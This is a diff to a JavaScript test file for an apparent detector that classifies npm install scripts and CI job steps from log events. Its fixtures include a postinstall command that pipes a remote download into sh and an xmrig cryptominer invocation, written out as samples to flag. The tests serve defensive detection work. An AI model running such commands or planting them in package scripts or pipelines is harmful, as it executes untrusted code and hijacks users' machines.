@@ -93,14 +93,17 @@ describe('actions', () => {
     ],
     [
       "a package's script",
-      saidLine('7 info run tiny-colours@1.4.1 postinstall node_modules/tiny-colours curl -s http://203.0.113.9/x | sh'),
+      eventLine(
+        { package: 'tiny-colours@1.4.1', event: 'postinstall', CommandLine: 'curl -s http://203.0.113.9/x | sh' },
+        { source: { product: 'npm' } },
+      ),
       { action: 'package-installed', what: 'tiny-colours@1.4.1 (postinstall)', carries: 'download' },
     ],
     [
       'a step of a job',
       eventLine(
         { CommandLine: './xmrig -o pool.example.com:3333 --donate-level 1' },
-        { source: { service: 'github-actions' } },
+        { source: { product: 'github', service: 'actions' } },
       ),
       { action: 'job-step', carries: 'miner' },
     ],
@@ -141,7 +144,7 @@ describe('actions', () => {
           'requestObject.spec.containers.image': 'nginx',
         }),
         saidLine('form data: {"Cmd":["nginx"],"Image":"nginx:1.27"}'),
-        eventLine({ CommandLine: 'npm ci' }, { source: { service: 'github-actions' } }),
+        eventLine({ CommandLine: 'npm ci' }, { source: { product: 'github', service: 'actions' } }),
         saidLine("statement: COPY t FROM '/data/t.csv'"),
       ),
     ).toEqual([]);
